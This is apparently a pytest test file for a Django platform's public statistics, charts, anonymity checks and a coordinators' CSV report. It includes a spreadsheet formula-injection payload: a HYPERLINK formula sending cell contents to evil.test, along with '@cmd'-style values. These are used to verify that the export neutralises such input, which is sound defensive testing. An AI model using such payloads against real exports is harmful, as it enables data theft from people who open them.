"""Transparency and impact: the public statistics, its charts, and the
coordinators' report per member with its CSV export."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from ttc.accounts.models import User
from ttc.core.models import AuditEvent
from ttc.core.testing import Personas, make_organisation, make_user
from ttc.core.tlp import TLP
from ttc.helprequests import engagements, services, stats
from ttc.helprequests.models import CloseReason, Engagement, HelpRequest, Proposal
from ttc.helprequests.stats_views import CHARTS, spreadsheet_safe
from ttc.helprequests.testing import (
    engage,
    make_market,
    make_request,
    open_request,
    propose,
    request_data,
)
from ttc.lib.matching import gini, top_share
from ttc.members.models import Membership, Organisation, OrganisationKind, Skill

pytestmark = pytest.mark.django_db

RED_TITLE = "Geheim: ransomware op de intensive care"
EVIL_NAME = '=HYPERLINK("https://evil.test/?x="&A1,"Klik hier")'


def member(name: str, skill: Skill, email: str) -> tuple[Organisation, User]:
    """Another member company that matching may propose, with its admin."""
    company = make_organisation(
        name,
        OrganisationKind.MEMBER_COMPANY,
        capacity_hours=40,
        regions=["groningen"],
        languages=["nl", "en"],
    )
    company.expertise.add(skill)
    admin = make_user(email, full_name=f"Admin {name}")
    Membership.objects.create(user=admin, organisation=company, role="admin")
    return company, admin


def accept(
    personas: Personas, request: HelpRequest, company: Organisation, admin: User
) -> Engagement:
    proposal = propose(personas, request, f"org:{company.pk}")
    return engagements.proposal_accept(proposal=proposal, actor=admin)


def local(day: date, hour: int = 12) -> datetime:
    return timezone.make_aware(datetime(day.year, day.month, day.day, hour))


def set_times(request: HelpRequest, *, created: datetime, waited: timedelta | None = None) -> None:
    """Move a request in time: the services stamp "now", the figures need a past."""
    fields: dict[str, Any] = {"created_at": created}
    if waited is not None:
        fields["first_match_at"] = created + waited
    HelpRequest.objects.filter(pk=request.pk).update(**fields)


def backdate(engagement: Engagement, days: int) -> None:
    """Let hours be logged for earlier days, as if the work started back then."""
    Engagement.objects.filter(pk=engagement.pk).update(
        started_at=timezone.now() - timedelta(days=days)
    )
    engagement.refresh_from_db()


@dataclass
class World:
    personas: Personas
    skill: Skill
    bouwsteen: Organisation
    bouwsteen_admin: User
    cirkel: Organisation
    cirkel_admin: User
    ggd: Organisation
    ggd_author: User
    this_month: date
    last_month: date
    requests: list[HelpRequest]

    @property
    def later_this_month(self) -> date:
        """A day after every request of this month: requests count up to the
        end of the day before, and this month's requests are set on days 1-4."""
        return self.this_month.replace(day=15)


@pytest.fixture
def world(personas: Personas) -> World:
    """Four members: Veilig Netwerk with 3 matches, Bouwsteen with 1, Cirkel and
    Andere Software with none. Six requests counted (one of them TLP:RED, one
    from a GGD, one last month), one duplicate that is not."""
    skill = make_market(personas)
    bouwsteen, bouwsteen_admin = member("Bouwsteen Data B.V.", skill, "admin@bouwsteen.test")
    cirkel, cirkel_admin = member("Cirkel Cloud B.V.", skill, "admin@cirkel.test")
    ggd = make_organisation("GGD Hollands Midden-Test", OrganisationKind.GGD)
    ggd_author = make_user("arts@ggd-test.test", full_name="Greet GGD")
    Membership.objects.create(user=ggd_author, organisation=ggd, role="admin")
    today = timezone.localdate()
    this_month = today.replace(day=1)
    last_month = stats.month_starts(months=2)[0]

    coordinator = personas.coordinator
    red = engage(personas, tlp=TLP.RED, title=RED_TITLE)
    second = engage(personas, title="Tweede verzoek van het ziekenhuis")
    third = engage(personas, title="Derde verzoek van het ziekenhuis")
    fourth = accept(
        personas, open_request(personas, title="Vierde verzoek"), bouwsteen, bouwsteen_admin
    )

    # Cirkel declines; the next candidate is asked; the requester gives up.
    declined = open_request(personas, title="Verzoek dat niemand aannam")
    proposal = propose(personas, declined, f"org:{cirkel.pk}")
    engagements.proposal_decline(proposal=proposal, actor=cirkel_admin, reason="Geen tijd")
    services.helprequest_close(request=declined, actor=coordinator, reason=CloseReason.NO_MEMBER)

    from_ggd = services.helprequest_submit(
        author=ggd_author,
        organisation=ggd,
        data=request_data(title="Vraag van de GGD", tlp=TLP.GREEN),
    )
    duplicate = services.helprequest_submit(
        author=ggd_author, organisation=ggd, data=request_data(title="Dubbel ingediend verzoek")
    )
    services.helprequest_merge(request=duplicate, into=from_ggd, actor=coordinator)

    # Waits until the first match: 2 hours, 30 hours, 5 days and 20 days.
    set_times(red.request, created=local(this_month, 1), waited=timedelta(hours=2))
    set_times(second.request, created=local(last_month, 9), waited=timedelta(hours=30))
    set_times(third.request, created=local(this_month, 2), waited=timedelta(days=5))
    set_times(fourth.request, created=local(this_month, 3), waited=timedelta(days=20))
    set_times(declined, created=local(this_month, 4))
    set_times(from_ggd, created=local(last_month, 10))
    set_times(duplicate, created=local(last_month, 11))

    admin = personas.member_admin
    engagements.hours_log(engagement=red, person=admin, worked_on=today, hours="2.5")
    backdate(second, 70)
    engagements.hours_log(
        engagement=second, person=admin, worked_on=last_month + timedelta(days=14), hours="4"
    )
    engagements.hours_log(engagement=fourth, person=bouwsteen_admin, worked_on=today, hours="1,25")
    engagements.engagement_close(engagement=second, actor=personas.requester, helped=True, rating=4)
    engagements.engagement_close(
        engagement=fourth, actor=personas.requester, helped=False, rating=2
    )
    return World(
        personas=personas,
        skill=skill,
        bouwsteen=bouwsteen,
        bouwsteen_admin=bouwsteen_admin,
        cirkel=cirkel,
        cirkel_admin=cirkel_admin,
        ggd=ggd,
        ggd_author=ggd_author,
        this_month=this_month,
        last_month=last_month,
        requests=[red.request, second.request, third.request, fourth.request, declined, from_ggd],
    )


# The figures ------------------------------------------------------------------------


def test_requests_are_counted_per_sector_and_month(world):
    figure = stats.requests_by_sector(today=world.later_this_month)
    assert figure.total == 6  # the merged duplicate is not counted
    assert figure.months[-1] == world.this_month
    assert figure.months[-2] == world.last_month
    assert len(figure.months) == stats.MONTHS_SHOWN
    by_kind = {series.kind: series for series in figure.sectors}
    assert [series.kind for series in figure.sectors] == list(stats.SECTORS)
    assert by_kind[OrganisationKind.HOSPITAL].per_month[-1] == 4  # red, third, fourth, declined
    assert by_kind[OrganisationKind.HOSPITAL].per_month[-2] == 1  # second
    assert by_kind[OrganisationKind.GGD].per_month[-2] == 1
    assert by_kind[OrganisationKind.GGD].per_month[-1] == 0
    assert by_kind[OrganisationKind.HOSPITAL].total == 5
    assert by_kind[OrganisationKind.MINISTRY].total == 0
    assert sum(by_kind[OrganisationKind.MINISTRY].per_month) == 0
    assert figure.month_totals[-2:] == [2, 4]
    assert figure.rows[-1] == (world.this_month, [4, 0, 0, 0, 0, 0, 0], 4)


def test_requests_before_the_months_shown_count_only_all_time(world):
    old = make_request(world.personas, title="Heel oud verzoek")
    set_times(old, created=timezone.now() - timedelta(days=31 * (stats.MONTHS_SHOWN + 1)))
    figure = stats.requests_by_sector(today=world.later_this_month)
    hospital = next(s for s in figure.sectors if s.kind == OrganisationKind.HOSPITAL)
    assert hospital.total == 6
    assert sum(hospital.per_month) == 5
    assert figure.total == 7


def test_median_time_to_first_match(world):
    figure = stats.time_to_first_match()
    assert figure.matched == 4
    # 2 h, 30 h, 120 h and 480 h: the middle two average to 75 hours.
    assert figure.median == timedelta(hours=75)
    assert figure.median_hours == 75
    assert figure.groups == [
        ("day", 1),
        ("three_days", 1),
        ("week", 1),
        ("two_weeks", 0),
        ("later", 1),
    ]


def test_median_of_an_odd_number_is_the_middle_one(world):
    fifth = engage(world.personas, title="Vijfde verzoek")
    set_times(fifth.request, created=local(world.this_month, 5), waited=timedelta(hours=50))
    assert stats.time_to_first_match().median == timedelta(hours=50)


def test_no_match_yet_has_no_median(personas):
    make_request(personas)
    figure = stats.time_to_first_match()
    assert figure.matched == 0
    assert figure.median is None
    assert figure.as_dict()["median_hours"] is None


def test_hours_donated_in_total_and_per_month(world):
    figure = stats.hours_donated()
    assert figure.total == Decimal("7.75")
    assert figure.per_month[-1] == Decimal("3.75")
    assert figure.per_month[-2] == Decimal("4")
    assert sum(figure.per_month) == Decimal("7.75")
    assert figure.as_dict()["total"] == 7.75


def test_the_distribution_of_matches_over_members(world):
    figure = stats.match_distribution()
    # Veilig Netwerk 3, Bouwsteen 1, Cirkel 0, Andere Software 0.
    assert figure.members == 4
    assert figure.members_matched == 2
    assert figure.matches == 4
    assert figure.gini == pytest.approx(0.625)
    assert figure.gini == pytest.approx(gini([3, 1, 0, 0]))
    assert figure.top_members == 1
    assert figure.top_share == pytest.approx(0.75)
    assert [(b.label, b.members) for b in figure.histogram] == [
        ("0", 2),
        ("1", 1),
        ("2", 0),
        ("3", 1),
    ]


def test_a_former_member_with_matches_still_counts(world):
    Organisation.objects.filter(pk=world.bouwsteen.pk).update(status="ended")
    Organisation.objects.filter(pk=world.cirkel.pk).update(status="ended")
    figure = stats.match_distribution()
    assert figure.members == 3  # Cirkel had no match and left; Bouwsteen had one
    assert figure.matches == 4


def test_a_known_distribution():
    figure = stats.distribution_from_counts({0: 9, 10: 1})
    assert figure.members == 10
    assert figure.gini == pytest.approx(0.9)
    assert figure.top_share == pytest.approx(1.0)
    even = stats.distribution_from_counts({2: 30})
    assert even.gini == pytest.approx(0.0)
    assert even.top_members == 3
    assert even.top_share == pytest.approx(0.1)
    assert even.top_share == pytest.approx(top_share([2] * 30))
    empty = stats.distribution_from_counts({})
    assert (empty.members, empty.gini, empty.top_share, empty.top_members) == (0, 0.0, 0.0, 0)
    assert [(b.label, b.members) for b in empty.histogram] == [("0", 0)]


def test_many_match_counts_are_binned():
    figure = stats.distribution_from_counts({0: 5, 1: 3, 45: 1})
    assert len(figure.histogram) <= stats.MAX_BINS
    assert figure.histogram[0].label == "0–2"
    assert figure.histogram[0].members == 8
    assert figure.histogram[-1].label == "45"
    assert figure.histogram[-1].members == 1
    assert sum(b.members for b in figure.histogram) == 9


def test_month_starts_cross_the_year():
    assert stats.month_starts(today=date(2026, 2, 17), months=4) == [
        date(2025, 11, 1),
        date(2025, 12, 1),
        date(2026, 1, 1),
        date(2026, 2, 1),
    ]


def test_the_figures_as_plain_numbers_for_the_api(world):
    data = stats.public_statistics(today=world.later_this_month).as_dict()
    json.dumps(data)  # plain numbers and strings only
    assert data["requests_by_sector"]["total"] == 6
    assert data["requests_by_sector"]["months"][-1] == world.this_month.strftime("%Y-%m")
    assert data["time_to_first_match"] == {
        "matched_requests": 4,
        "median_hours": 75.0,
        "groups": {"day": 1, "three_days": 1, "week": 1, "two_weeks": 0, "later": 1},
    }
    assert data["hours_donated"]["total"] == 7.75
    assert data["match_distribution"]["gini"] == 0.625
    assert data["match_distribution"]["histogram"][3] == {
        "matches_from": 3,
        "matches_to": 3,
        "members": 1,
    }


# The public page and its charts -------------------------------------------------------


def secrets_of(world: World) -> list[str]:
    """Everything the public page must never show: names of members and of
    requesting organisations, and every request title."""
    names = list(Organisation.objects.values_list("name", flat=True))
    titles = list(HelpRequest.objects.values_list("title", flat=True))
    people = list(User.objects.values_list("full_name", flat=True))
    assert RED_TITLE in titles and "Veilig Netwerk B.V." in names
    return [text for text in names + titles + people if text]


def test_the_page_is_public_and_shows_the_figures(world):
    response = Client().get(reverse("statistics"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Cache-Control" not in response or "private" not in response["Cache-Control"]
    for name in CHARTS:
        assert f'src="{reverse("statistics_chart", args=[name])}"' in page
    # Every chart has an alternative text and a table of its figures.
    assert page.count("<img ") == len(CHARTS)
    assert page.count(' alt="') >= len(CHARTS)
    assert page.count("<details>") == len(CHARTS)
    assert page.count("<table ") == len(CHARTS)
    assert "0,63" in page or "0.63" in page  # the Gini coefficient
    assert "75 " in page  # the median in hours


def test_the_footer_links_to_the_statistics(personas):
    response = Client().get(reverse("home"))
    assert f'href="{reverse("statistics")}"' in response.content.decode()


def test_no_member_requester_or_request_is_named_in_public(world):
    anonymous = Client()
    surfaces = [anonymous.get(reverse("statistics")).content.decode()]
    for name in CHARTS:
        surfaces.append(anonymous.get(reverse("statistics_chart", args=[name])).content.decode())
    surfaces.append(json.dumps(stats.public_statistics().as_dict()))
    for text in secrets_of(world):
        for surface in surfaces:
            assert text not in surface, text


def test_a_signed_in_member_sees_the_same_anonymous_figures(world, client_for):
    page = client_for("member_admin").get(reverse("statistics")).content.decode()
    for text in ("Bouwsteen Data B.V.", "Cirkel Cloud B.V.", RED_TITLE):
        assert text not in page
    assert reverse("statistics_report") not in page


def directives(response: Any) -> dict[str, str]:
    policy = response["Content-Security-Policy"]
    return dict([*part.strip().split(" ", 1), ""][:2] for part in policy.split(";") if part.strip())


@pytest.mark.parametrize("name", list(CHARTS))
def test_each_chart_is_an_svg_with_its_own_relaxed_policy(world, name):
    response = Client().get(reverse("statistics_chart", args=[name]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("image/svg+xml")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = directives(response)
    site = directives(Client().get(reverse("statistics")))
    assert policy["style-src"] == "'self' 'unsafe-inline'"
    # Nothing else is relaxed: every other directive is the site's own.
    assert {k: v for k, v in policy.items() if k not in ("style-src", "script-src")} == {
        k: v for k, v in site.items() if k not in ("style-src", "script-src")
    }
    assert "unsafe" not in policy["script-src"]
    svg = response.content.decode()
    assert svg.startswith("<svg")
    assert "<script" not in svg
    assert "kozea.github.io" not in svg  # pygal's external tooltip script
    assert "@import" not in svg


def test_only_the_charts_allow_inline_style(world):
    for url in (reverse("statistics"), reverse("home")):
        policy = directives(Client().get(url))
        assert policy["style-src"] == "'self'"
        assert "unsafe-inline" not in " ".join(policy.values())


def test_an_unknown_chart_is_not_found(personas):
    assert Client().get("/statistics/charts/secrets.svg").status_code == 404


def test_charts_draw_with_no_data(personas):
    for name in CHARTS:
        response = Client().get(reverse("statistics_chart", args=[name]))
        assert response.status_code == 200
        assert "<svg" in response.content.decode()
    assert Client().get(reverse("statistics")).status_code == 200


def test_the_charts_carry_the_figures(world):
    svg = Client().get(reverse("statistics_chart", args=["distribution"])).content.decode()
    assert str(OrganisationKind.HOSPITAL.label) not in svg
    requests_svg = Client().get(reverse("statistics_chart", args=["requests"])).content.decode()
    assert "Ziekenhuis" in requests_svg or "Hospital" in requests_svg  # the sector, not the name
    assert "Ziekenhuis Noorderlicht" not in requests_svg


def _queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context.captured_queries)


def test_the_page_takes_a_fixed_number_of_queries(world):
    url = reverse("statistics")
    few = _queries(Client(), url)
    personas = world.personas
    for index in range(4):
        company, admin = member(f"Extra {index} B.V.", world.skill, f"extra{index}@lid.test")
        engagement = accept(
            personas, open_request(personas, title=f"Extra {index}"), company, admin
        )
        engagements.hours_log(
            engagement=engagement, person=admin, worked_on=timezone.localdate(), hours="3"
        )
    assert stats.match_distribution().members == 8
    assert _queries(Client(), url) == few


def test_the_report_takes_a_fixed_number_of_queries(world, client_for):
    client = client_for("coordinator")
    url = reverse("statistics_report")
    _queries(client, url)  # warms the content-type cache the notification count uses
    few = _queries(client, url)
    personas = world.personas
    for index in range(4):
        company, admin = member(f"Extra {index} B.V.", world.skill, f"extra{index}@lid.test")
        accept(personas, open_request(personas, title=f"Extra {index}"), company, admin)
    assert _queries(client, url) == few


# The coordinators' report -----------------------------------------------------------


def test_the_report_per_member(world):
    rows = {row.name: row for row in stats.member_report()}
    assert set(rows) == {
        "Veilig Netwerk B.V.",
        "Bouwsteen Data B.V.",
        "Cirkel Cloud B.V.",
        "Andere Software B.V.",
    }
    veilig = rows["Veilig Netwerk B.V."]
    assert (veilig.matches_window, veilig.matches_total) == (3, 3)
    assert veilig.hours == Decimal("6.5")
    assert (veilig.engagements_closed, veilig.ratings, veilig.mean_rating) == (1, 1, 4.0)
    assert veilig.share == pytest.approx(0.75)
    bouwsteen = rows["Bouwsteen Data B.V."]
    assert (bouwsteen.matches_total, bouwsteen.hours, bouwsteen.mean_rating) == (
        1,
        Decimal("1.25"),
        2.0,
    )
    assert bouwsteen.share == pytest.approx(0.25)
    cirkel = rows["Cirkel Cloud B.V."]
    assert (cirkel.matches_total, cirkel.declined, cirkel.expired, cirkel.waiting) == (0, 1, 0, 0)
    assert cirkel.mean_rating is None
    assert cirkel.share == 0
    assert [row.name for row in stats.member_report()][:2] == [
        "Veilig Netwerk B.V.",
        "Bouwsteen Data B.V.",
    ]


def test_matches_outside_the_fairness_window(world, settings):
    Proposal.objects.filter(organisation=world.bouwsteen).update(
        proposed_at=timezone.now() - timedelta(days=settings.TTC_FAIRNESS_WINDOW_DAYS + 1)
    )
    bouwsteen = next(r for r in stats.member_report() if r.name == "Bouwsteen Data B.V.")
    assert (bouwsteen.matches_window, bouwsteen.matches_total) == (0, 1)


def test_expired_and_waiting_proposals(world):
    personas = world.personas
    request = open_request(personas, title="Verzoek zonder antwoord")
    proposal = propose(personas, request, f"org:{world.cirkel.pk}")
    assert next(r for r in stats.member_report() if r.pk == world.cirkel.pk).waiting == 1
    engagements.proposals_follow_up(now=proposal.respond_by + timedelta(minutes=1))
    cirkel = next(r for r in stats.member_report() if r.pk == world.cirkel.pk)
    assert (cirkel.waiting, cirkel.expired, cirkel.declined) == (0, 1, 1)


@pytest.mark.parametrize(
    ("raw", "sort"),
    [
        (None, "-matches_total"),
        ("name", "name"),
        ("-hours", "-hours"),
        ("--hours", "-matches_total"),
        ("hours-", "-matches_total"),
        ("title", "-matches_total"),
        ("-pk", "-matches_total"),
    ],
)
def test_the_report_sorts_on_known_columns_only(raw, sort):
    assert stats.parse_sort(raw) == sort


def test_the_report_sorts(world, client_for):
    names = [row.name for row in stats.member_report(sort="name")]
    assert names == sorted(names, key=str.lower)
    assert [row.name for row in stats.member_report(sort="-name")] == names[::-1]
    assert stats.member_report(sort="-mean_rating")[0].name == "Veilig Netwerk B.V."
    assert stats.member_report(sort="mean_rating")[0].name == "Bouwsteen Data B.V."
    page = client_for("coordinator").get(reverse("statistics_report"), {"sort": "name"})
    assert page.status_code == 200
    assert 'aria-sort="ascending"' in page.content.decode()
    assert page.content.decode().index("Andere Software") < page.content.decode().index(
        "Veilig Netwerk"
    )


def test_the_report_is_for_coordinators(world, client_for):
    for url in (reverse("statistics_report"), reverse("statistics_report_csv")):
        anonymous = Client().get(url)
        assert anonymous.status_code == 302
        assert reverse("account_login") in anonymous["Location"]
        for name in ("member_admin", "expert", "requester", "umbrella", "outsider"):
            assert client_for(name).get(url).status_code == 403, (name, url)
    assert not AuditEvent.objects.filter(action="report.export").exists()


def test_the_coordinator_sees_the_report(world, client_for):
    response = client_for("coordinator").get(reverse("statistics_report"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Bouwsteen Data B.V." in page
    assert "75,0%" in page or "75.0%" in page
    assert reverse("statistics_report_csv") in page
    assert "no-cache" in response["Cache-Control"]
    assert RED_TITLE not in page
    assert not AuditEvent.objects.filter(action="report.export").exists()


def read_csv(response: Any) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_the_csv_export(world, client_for):
    make_organisation(EVIL_NAME, OrganisationKind.MEMBER_COMPANY)
    make_organisation("@SUM(1+1)", OrganisationKind.MEMBER_COMPANY)
    make_organisation("-2+3 B.V.", OrganisationKind.INDEPENDENT_EXPERT)
    coordinator = world.personas.coordinator
    coordinator.preferred_language = "en"
    coordinator.save(update_fields=["preferred_language"])
    response = client_for("coordinator").get(reverse("statistics_report_csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="ttc-member-report-')
    assert response["Content-Disposition"].endswith('.csv"')
    rows = read_csv(response)
    assert rows[0] == [
        "Member",
        "Kind",
        "Status",
        "Matches in the last 90 days",
        "Matches all time",
        "Proposals waiting",
        "Proposals declined",
        "Proposals expired",
        "Hours donated",
        "Engagements closed",
        "Ratings",
        "Mean rating",
        "Share of all matches (%)",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    assert len(rows) == 1 + 7
    assert by_name["Veilig Netwerk B.V."][3:] == [
        "3", "3", "0", "0", "0", "6.50", "1", "1", "4.00", "75.0"
    ]  # fmt: skip
    assert by_name["Cirkel Cloud B.V."][3:] == [
        "0", "0", "0", "1", "0", "0.00", "0", "0", "", "0.0"
    ]  # fmt: skip
    # Formula injection: every cell a spreadsheet would run is neutralised.
    assert "'" + EVIL_NAME in by_name
    assert EVIL_NAME not in by_name
    assert "'@SUM(1+1)" in by_name
    assert "'-2+3 B.V." in by_name
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    event = AuditEvent.objects.get(action="report.export")
    assert event.actor == world.personas.coordinator
    assert event.data["rows"] == 7


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("Gewoon B.V.", "Gewoon B.V."),
        ("a=b", "a=b"),
        (3, 3),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_the_csv_is_sorted_like_the_page(world, client_for):
    response = client_for("coordinator").get(reverse("statistics_report_csv"), {"sort": "name"})
    names = [row[0] for row in read_csv(response)[1:]]
    assert names == sorted(names, key=str.lower)


@pytest.mark.django_db
def test_the_api_publishes_the_same_figures_without_signing_in(personas, client):
    make_market(personas)
    engagement = engage(personas)
    engagements.hours_log(
        engagement=engagement,
        person=personas.member_admin,
        worked_on=timezone.localdate(),
        hours="2.5",
    )
    response = client.get("/api/v1/statistics")
    assert response.status_code == 200
    body = response.json()
    assert body == json.loads(json.dumps(stats.public_statistics().as_dict()))
    assert body["hours_donated"]["total"] == 2.5
    assert body["match_distribution"]["matches"] == 1
    text = response.content.decode()
    assert personas.member_company.name not in text
    assert engagement.request.title not in text


def test_requests_count_from_the_day_after(personas):
    """Today's requests show tomorrow: a live count would announce each one."""
    make_market(personas)
    make_request(personas, title="Net binnengekomen")
    today = timezone.localdate()
    assert stats.requests_by_sector(today=today).total == 0
    assert stats.requests_by_sector(today=today + timedelta(days=1)).total == 1
